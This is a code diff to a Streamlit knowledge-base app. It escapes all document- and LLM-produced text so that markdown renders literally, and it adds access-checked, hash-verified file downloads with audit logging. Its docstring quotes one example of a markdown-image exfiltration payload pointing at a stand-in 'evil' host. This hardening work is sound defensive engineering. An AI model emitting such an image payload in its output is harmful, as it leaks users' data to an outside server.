@@ -1,10 +1,16 @@
-"""How a retrieved passage and a graph fact look on a page: source cards with highlighted matches.
+"""How text from documents and the LLM looks on a page: escaped, with source cards and verified downloads.
 
+Everything a document or a model wrote (answers, titles, sections, passages, summaries, entity
+names) goes through ``safe_markdown`` before Streamlit renders it, so it shows literally: a planted
+``![x](http://evil/?q=…)`` is text, never an image the browser fetches or a link to click.
 The query's matched words are found with the keyword retriever's own tokenizer (stems for English,
 jieba words for Chinese), so what lights up is what BM25 matched: "policies" lights up "policy".
+An original file is served only after re-checking, at the click, that the user may still see the
+document and that the file on disk is the one ingested (its SHA-256 is the stored ``content_hash``).
 """
 from __future__ import annotations
 
+import hashlib
 import re
 from collections.abc import Callable, Sequence
 from pathlib import Path
@@ -12,20 +18,28 @@ from pathlib import Path
 import jieba
 import streamlit as st
 
-from zhiku.records import Citation, Hit, Triple
+from zhiku import audit
+from zhiku.errors import DownloadError
+from zhiku.kb import KnowledgeBase
+from zhiku.records import Citation, Hit, Triple, User
 
 _CJK = "\u3400-\u4dbf\u4e00-\u9fff\uf900-\ufaff"
 #: A passage splits into Chinese runs, words and the rest (spaces, punctuation).
 _PIECES = re.compile(rf"([{_CJK}]+|[^\W_]+)", re.UNICODE)
 _IS_CJK = re.compile(rf"[{_CJK}]")
-#: Characters Streamlit's markdown would interpret (emphasis, links, LaTeX, emoji shortcodes, HTML).
-_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#+\-.!|$~<>:])")
+#: Characters Streamlit's markdown would interpret (emphasis, links, images, LaTeX, emoji shortcodes,
+#: colour directives, HTML and entities).
+_MARKDOWN = re.compile(r"([\\`*_{}\[\]()#+\-.!|$~<>:&=\"'])")
 
 Tokenize = Callable[[str], list[str]]
 
 
-def escape_markdown(text: str) -> str:
-    return _MARKDOWN.sub(r"\\\1", text)
+def safe_markdown(text: str) -> str:
+    """``text`` as Markdown that renders it literally (line breaks kept): no HTML, images, links or formatting.
+
+    Escaping is per character, so escaping the pieces of a text (streamed tokens) equals escaping the whole.
+    """
+    return _MARKDOWN.sub(r"\\\1", text).replace("\n", "  \n")
 
 
 def highlight(passage: str, query: str, tokenize: Tokenize) -> str:
@@ -45,13 +59,7 @@ def highlight(passage: str, query: str, tokenize: Tokenize) -> str:
                 pieces[-1] = (pieces[-1][0] + word, True)
             elif word:
                 pieces.append((word, hit))
-    text = "".join(f":orange-background[**{w}**]" if hit else escape_markdown(w) for w, hit in pieces)
-    return text.replace("\n", "  \n")
-
-
-def answer_markdown(text: str) -> str:
-    """An answer as markdown: formatting kept, but ``$`` shown as a dollar sign, not the start of LaTeX."""
-    return text.replace("$", "\\$")
+    return "".join(f":orange-background[**{safe_markdown(w)}**]" if hit else safe_markdown(w) for w, hit in pieces)
 
 
 def card_title(citation: Citation) -> str:
@@ -66,22 +74,58 @@ def card_title(citation: Citation) -> str:
 
 
 def fact_line(fact: Triple) -> str:
-    subject, relation, obj = (escape_markdown(t) for t in (fact.subject, fact.relation, fact.object))
+    subject, relation, obj = (safe_markdown(t) for t in (fact.subject, fact.relation, fact.object))
     return f"{subject} — *{relation}* → {obj}"
 
 
-def source_card(citation: Citation, query: str, tokenize: Tokenize, key: str) -> None:
+def verified_original(kb: KnowledgeBase, user: User, doc_id: int) -> tuple[Path, bytes]:
+    """The original file of ``doc_id`` and its bytes, checked now: ``user`` may still see the document
+    (as the knowledge base holds it now) and the bytes hash to the ``content_hash`` stored at ingest.
+
+    The bytes returned are the ones hashed, so a file swapped after the check is never served.
+    """
+    doc = kb.get_document(doc_id)
+    if doc is None or not user.can_see(doc.groups):
+        raise DownloadError("this document is no longer available to you (removed, or its access groups "
+                            "changed); ask an administrator if you need it")
+    path = Path(doc.source)
+    try:
+        data = path.read_bytes()
+    except OSError:
+        raise DownloadError(f"{path.name} is no longer on the server; an administrator can restore it and "
+                            "ingest it again") from None
+    if hashlib.sha256(data).hexdigest() != doc.content_hash:
+        raise DownloadError(f"{path.name} changed on disk since it was ingested, so it is not the file the "
+                            "answer cites; an administrator can ingest it again to serve the new version")
+    return path, data
+
+
+def download_control(kb: KnowledgeBase, user: User, hit: Hit, key: str) -> None:
+    """"Download" checks the file (``verified_original``) and then offers exactly the checked bytes."""
+    name = Path(hit.document.source).name
+    if not st.button(f"Download {safe_markdown(name)}", key=key, icon=":material/download:"):
+        return
+    doc_id = int(hit.document.id or 0)
+    try:
+        path, data = verified_original(kb, user, doc_id)
+    except DownloadError as exc:
+        audit.record(kb, user.name, audit.DOWNLOAD, doc_id=doc_id, ok=False)
+        st.warning(str(exc), icon=":material/block:")
+        return
+    audit.record(kb, user.name, audit.DOWNLOAD, doc_id=doc_id, source=str(path), ok=True)
+    st.download_button(f"Save {safe_markdown(path.name)}", data=data, file_name=path.name, key=f"{key}-save",
+                       on_click="ignore", type="primary", icon=":material/save:")
+
+
+def source_card(kb: KnowledgeBase, user: User, citation: Citation, query: str, tokenize: Tokenize,
+                key: str) -> None:
     """An expander with the passage (matches highlighted), where it was found and the original file."""
     hit: Hit = citation.hit
-    with st.expander(card_title(citation)):
+    with st.expander(safe_markdown(card_title(citation))):
         found_by = ", ".join(f"{name} #{rank}" for name, rank in sorted(hit.found_by.items()))
-        st.caption(f"{hit.document.source}" + (f" — found by {found_by}" if found_by else ""))
+        st.caption(safe_markdown(hit.document.source + (f" — found by {found_by}" if found_by else "")))
         st.markdown(highlight(hit.chunk.text, query, tokenize))
-        path = Path(hit.document.source)
-        if path.is_file():
-            st.download_button(
-                f"Download {path.name}", data=path.read_bytes, file_name=path.name, key=key, on_click="ignore",
-            )
+        download_control(kb, user, hit, key)
 
 
 def facts_block(facts: Sequence[Triple]) -> None:
